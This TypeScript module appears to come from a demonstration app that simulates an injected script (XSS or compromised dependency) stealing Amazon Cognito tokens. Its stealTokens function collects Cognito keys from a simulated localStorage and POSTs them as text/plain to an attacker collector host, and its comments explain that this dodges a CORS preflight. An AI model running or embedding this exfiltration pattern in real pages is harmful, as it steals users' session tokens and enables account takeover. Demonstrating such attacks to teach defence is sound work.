import { fromPromise } from 'xstate';
import { attackerCollectorHost, type CloudFetch } from '$lib/cloud';
import { cognitoKeyPrefix, type TokenStorage } from '../cache-tokens';

export interface StealTokensInput {
	/** The page's network: the injected script runs inside the app, with the app's origin. */
	fetch: CloudFetch;
	/** What the app wrote to localStorage (plain data: the real browser's is never touched). */
	localStorage: TokenStorage;
}

/** Where the script sends what it found: the attacker's collector. */
export const collectorUrl = `https://${attackerCollectorHost}/tokens`;

/**
 * What a script injected into the page does (an XSS payload, or a compromised npm dependency the
 * app bundled): walk `localStorage`, keep every key amazon-cognito-identity-js wrote, and send them
 * to the attacker. The body is a string, so the browser sends `text/plain`: a "simple" cross-origin
 * request, with no CORS preflight to stop it. The script does not care what the collector answers.
 * Resolves with exactly what was sent.
 */
export async function stealTokens(input: StealTokensInput): Promise<TokenStorage> {
	// Read every key the Cognito library wrote (any script on the page may)
	const stolen = Object.fromEntries(
		Object.entries(input.localStorage).filter(([key]) => key.startsWith(`${cognitoKeyPrefix}.`))
	);

	// Send them to the attacker's collector
	await input.fetch(collectorUrl, {
		method: 'POST',
		headers: { 'Content-Type': 'text/plain;charset=UTF-8' },
		body: JSON.stringify(stolen)
	});
	return stolen;
}

export const stealTokensActor = fromPromise<TokenStorage, StealTokensInput>(({ input }) =>
	stealTokens(input)
);
